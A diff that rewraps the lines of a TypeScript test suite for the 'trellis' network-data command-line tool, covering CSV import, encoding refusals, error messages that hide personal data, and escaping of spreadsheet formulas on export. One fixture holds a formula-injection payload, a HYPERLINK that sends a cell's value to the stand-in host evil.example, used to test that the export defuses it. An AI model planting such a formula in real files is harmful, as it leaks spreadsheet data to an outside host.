@@ -61,7 +61,10 @@ describe('trellis', () => {
     const people = join(folder, 'people.csv');
     await writeFile(people, 'display_name,email\nRosa Prieto,rosa@example.org\nJuan Gil,juan@example.org\n');
     const ties = join(folder, 'ties.csv');
-    await writeFile(ties, 'network,from_email,to_email,to_outside_name,relation,weight\nred-export,rosa@example.org,juan@example.org,,advice,2\nred-export,juan@example.org,,Eva Sanz,trust,\n');
+    await writeFile(
+      ties,
+      'network,from_email,to_email,to_outside_name,relation,weight\nred-export,rosa@example.org,juan@example.org,,advice,2\nred-export,juan@example.org,,Eva Sanz,trust,\n',
+    );
     expect((await trellis('import', 'people', people)).code).toBe(0);
     expect((await trellis('import', 'ties', ties)).code).toBe(0);
 
@@ -77,13 +80,19 @@ describe('trellis', () => {
     // Nothing has been analysed (no server ran): the file's measures are computed for it.
     expect(graphml).toContain('attr.name="betweenness"');
     const csv = join(folder, 'red.csv');
-    expect((await trellis('export', 'network', 'red-export', '--format', 'csv', '--table', 'nodes', '--out', csv)).code).toBe(0);
+    expect(
+      (await trellis('export', 'network', 'red-export', '--format', 'csv', '--table', 'nodes', '--out', csv))
+        .code,
+    ).toBe(0);
     expect((await readFile(csv, 'utf8')).split('\r\n')[0]).toBe(
       'id,kind,in_network,label,degree,betweenness,closeness,pagerank,clustering,core,constraint,effectiveSize,community,brokerageRole',
     );
 
     const missing = await trellis('export', 'network', 'no-such-network', '--out', out);
-    expect(missing).toMatchObject({ code: 1, stderr: expect.stringContaining('no network has the slug or id "no-such-network"') });
+    expect(missing).toMatchObject({
+      code: 1,
+      stderr: expect.stringContaining('no network has the slug or id "no-such-network"'),
+    });
     expect((await trellis('export', 'network', 'red-export', '--format', 'pdf', '--out', out)).code).toBe(2);
     expect((await trellis('export', 'network', 'red-export', '--wave', 'last', '--out', out)).code).toBe(2);
     expect((await trellis('export', 'network', 'red-export')).code).toBe(2);
@@ -128,7 +137,9 @@ describe('trellis', () => {
   });
 
   /** Runs SQL on the command's database between commands (the CLI holds it only while it runs). */
-  async function withDatabase<T>(work: (db: Awaited<ReturnType<typeof openDatabase>>['db']) => Promise<T>): Promise<T> {
+  async function withDatabase<T>(
+    work: (db: Awaited<ReturnType<typeof openDatabase>>['db']) => Promise<T>,
+  ): Promise<T> {
     const connection = await openDatabase({ dataDir: join(folder, 'data') });
     try {
       return await work(connection.db);
@@ -138,10 +149,13 @@ describe('trellis', () => {
   }
   const countMarked = () =>
     withDatabase(async (db) => {
-      const result = (await db.execute(sql`select count(*)::int as count from people where display_name ilike '%marker%'`)) as unknown as { rows: { count: number }[] };
+      const result = (await db.execute(
+        sql`select count(*)::int as count from people where display_name ilike '%marker%'`,
+      )) as unknown as { rows: { count: number }[] };
       return result.rows[0]!.count;
     });
-  const PEOPLE = 'display_name,email,expertise\nMarkerAlba Muñoz,marker.alba@example.org,reading\nMarkerBruno Peña,marker.bruno@example.org,maths\n';
+  const PEOPLE =
+    'display_name,email,expertise\nMarkerAlba Muñoz,marker.alba@example.org,reading\nMarkerBruno Peña,marker.bruno@example.org,maths\n';
 
   it('refuses a Latin-1 file, naming its encoding, the line and how to re-save it, and writes nothing', async () => {
     const file = join(folder, 'latin1.csv');
@@ -149,7 +163,9 @@ describe('trellis', () => {
     const refused = await trellis('import', 'people', file);
     expect(refused.code).toBe(1);
     expect(refused.stderr).toContain('was not imported; nothing was written');
-    expect(refused.stderr).toMatch(/row 2: The file is not UTF-8 text: this line has the byte 0xF1.*Windows-1252 or ISO-8859-1 \(Latin-1\)/);
+    expect(refused.stderr).toMatch(
+      /row 2: The file is not UTF-8 text: this line has the byte 0xF1.*Windows-1252 or ISO-8859-1 \(Latin-1\)/,
+    );
     expect(refused.stderr).toContain('"CSV UTF-8 (Comma delimited)"');
     expect(`${refused.stdout}${refused.stderr}`).not.toMatch(/marker/i);
     expect(await countMarked()).toBe(0);
@@ -172,13 +188,16 @@ describe('trellis', () => {
 
   it('imports UTF-8 with a byte-order mark, as Excel\'s "CSV UTF-8" writes it', async () => {
     const file = join(folder, 'utf8-bom.csv');
-    await writeFile(file, Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(PEOPLE.replaceAll('Marker', 'Bom'))]));
+    await writeFile(
+      file,
+      Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(PEOPLE.replaceAll('Marker', 'Bom'))]),
+    );
     const imported = await trellis('import', 'people', file);
     expect(imported).toMatchObject({ code: 0, stderr: '' });
     expect(imported.stdout).toContain('2 created');
   });
 
-  it('refuses a NUL byte by row and column without printing anyone\'s name or email', async () => {
+  it("refuses a NUL byte by row and column without printing anyone's name or email", async () => {
     const file = join(folder, 'nul.csv');
     await writeFile(file, `${PEOPLE}MarkerCarla Paz,marker.carla@example.org,art\0s\n`);
     const refused = await trellis('import', 'people', file);
@@ -189,14 +208,20 @@ describe('trellis', () => {
   });
 
   it('prints a database failure without the statement or its parameters, and writes nothing', async () => {
-    await withDatabase((db) => db.execute(sql`alter table people add constraint cli_test_refuses check (display_name not like 'MarkerBruno%')`));
+    await withDatabase((db) =>
+      db.execute(
+        sql`alter table people add constraint cli_test_refuses check (display_name not like 'MarkerBruno%')`,
+      ),
+    );
     try {
       const file = join(folder, 'refused.csv');
       await writeFile(file, PEOPLE);
       const refused = await trellis('import', 'people', file);
       expect(refused.code).toBe(1);
       expect(refused.stderr).toContain('nothing was written');
-      expect(refused.stderr).toContain('PostgreSQL error 23514 (a value breaks a check constraint: table "people", constraint "cli_test_refuses")');
+      expect(refused.stderr).toContain(
+        'PostgreSQL error 23514 (a value breaks a check constraint: table "people", constraint "cli_test_refuses")',
+      );
       expect(`${refused.stdout}${refused.stderr}`).not.toMatch(/marker|insert into/i);
       expect(await countMarked()).toBe(0);
     } finally {
@@ -205,25 +230,54 @@ describe('trellis', () => {
   });
 
   it('describes any failure without the data in it, and never as [object Object]', async () => {
-    const failed = await withDatabase((db) => db.execute(sql`select ${'MarkerSecret'}::uuid`).then(() => null, (error: unknown) => error));
+    const failed = await withDatabase((db) =>
+      db.execute(sql`select ${'MarkerSecret'}::uuid`).then(
+        () => null,
+        (error: unknown) => error,
+      ),
+    );
     // Drizzle's own message lists the parameter, and PostgreSQL's quotes it.
     expect(String(failed)).toContain('MarkerSecret');
-    expect(describeFailure(failed)).toBe('the database refused a statement: PostgreSQL error 22P02 (a value of the wrong type).');
+    expect(describeFailure(failed)).toBe(
+      'the database refused a statement: PostgreSQL error 22P02 (a value of the wrong type).',
+    );
     expect(describeFailure({ code: 'ELOOP', errno: -40 })).toBe('failed with ELOOP');
     expect(describeFailure({})).toBe('failed unexpectedly');
-    expect(describeFailure(new Error('TRELLIS_PUBLIC_URL must be a URL'))).toBe('TRELLIS_PUBLIC_URL must be a URL');
+    expect(describeFailure(new Error('TRELLIS_PUBLIC_URL must be a URL'))).toBe(
+      'TRELLIS_PUBLIC_URL must be a URL',
+    );
   });
 
   it('exports names that are spreadsheet formulas as text, quoted and with a quote in front', async () => {
     const people = join(folder, 'formula-people.csv');
-    await writeFile(people, 'display_name,email\n"=HYPERLINK(""http://evil.example/?""&A1,""Ver"")",formula1@example.org\n@SUM(1),formula2@example.org\n');
+    await writeFile(
+      people,
+      'display_name,email\n"=HYPERLINK(""http://evil.example/?""&A1,""Ver"")",formula1@example.org\n@SUM(1),formula2@example.org\n',
+    );
     const ties = join(folder, 'formula-ties.csv');
     await addNetwork('red-formulas');
-    await writeFile(ties, 'network,from_email,to_email,relation\nred-formulas,formula1@example.org,formula2@example.org,advice\n');
+    await writeFile(
+      ties,
+      'network,from_email,to_email,relation\nred-formulas,formula1@example.org,formula2@example.org,advice\n',
+    );
     expect((await trellis('import', 'people', people)).code).toBe(0);
     expect((await trellis('import', 'ties', ties)).code).toBe(0);
     const out = join(folder, 'formula-nodes.csv');
-    expect((await trellis('export', 'network', 'red-formulas', '--format', 'csv', '--table', 'nodes', '--out', out)).code).toBe(0);
+    expect(
+      (
+        await trellis(
+          'export',
+          'network',
+          'red-formulas',
+          '--format',
+          'csv',
+          '--table',
+          'nodes',
+          '--out',
+          out,
+        )
+      ).code,
+    ).toBe(0);
     const text = await readFile(out, 'utf8');
     expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Ver"")"`);
     expect(text).toContain(`"'@SUM(1)"`);
